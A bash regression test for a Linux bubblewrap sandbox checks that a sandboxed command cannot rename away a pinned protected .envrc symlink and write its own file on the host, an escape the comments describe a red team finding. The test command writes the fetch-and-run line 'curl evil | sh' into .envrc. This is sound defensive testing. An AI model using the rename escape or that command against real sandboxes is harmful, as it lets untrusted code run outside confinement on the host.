#!/bin/bash
# Escape class H2 (protected names), linux-bwrap, the violation monitor.
# A protected name that is a symbolic link in a write root (.envrc ->
# envrc.real) is pinned: srt-linux-init mounts a read-only copy of its
# target on the link itself, so rename and unlink of the name fail with
# EBUSY and the command cannot put a file of its own there. With denyRead
# set, the monitor performs the command's renames itself, and the kernel's
# EBUSY looks at the renaming process's own mount namespace. Where the
# nested init makes the pin (no --make-dev-proc: enableWeakerNestedSandbox,
# a setuid bwrap, Linux < 5.12) it is in the command's namespace alone, so
# the monitor's rename moved the link away, the pin with it, and the
# command wrote its own .envrc on the host (red team; without denyRead the
# same rename got EBUSY). Each run must leave the host's name the link it
# was, with or without denyRead, in both modes.
. "$(dirname "$0")/lib.sh"
need_bwrap
P="$WORK/proj"
cd "$P" || exit 1
echo 'export SAFE=1' > "$P/envrc.real"
weaker_ran=0
for weaker in false true; do
	for deny in '"~/.ssh"' ''; do
		rm -f "$P/.envrc" "$P/moved" "$P/out"
		ln -s envrc.real "$P/.envrc"
		S="$WORK/pin.json"
		printf '{"enableWeakerNestedSandbox":%s,"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":[%s],"allowWrite":["."],"denyWrite":[]}}\n' \
			"$weaker" "$deny" > "$S"
		srt__run -s "$S" -c 'mv .envrc moved; echo "mv=$?"; echo "curl evil | sh" > .envrc; echo "ran"' \
			>"$WORK/out" 2>&1
		what="weaker=$weaker denyRead=[${deny}]: $(tr '\n' ' ' < "$WORK/out" | head -c 300)"
		if ! grep -q '^ran' "$WORK/out"; then
			skip "H2 the command did not run ($what)"
			continue
		fi
		[ "$weaker" = true ] && weaker_ran=1
		attempt H2 "a pinned protected link cannot be renamed away ($what)" \
			sh -c "[ -L '$P/.envrc' ] && [ \"\$(readlink '$P/.envrc')\" = envrc.real ] && [ ! -e '$P/moved' ]"
		attempt H2 "the command's text is not at the protected name ($what)" \
			sh -c "! grep -q evil '$P/.envrc' '$P/envrc.real'"
	done
done
[ "$weaker_ran" = 1 ] || diag "enableWeakerNestedSandbox runs could not start here: the pins made by the nested init were not tried"
echo "1..$_tap_n"
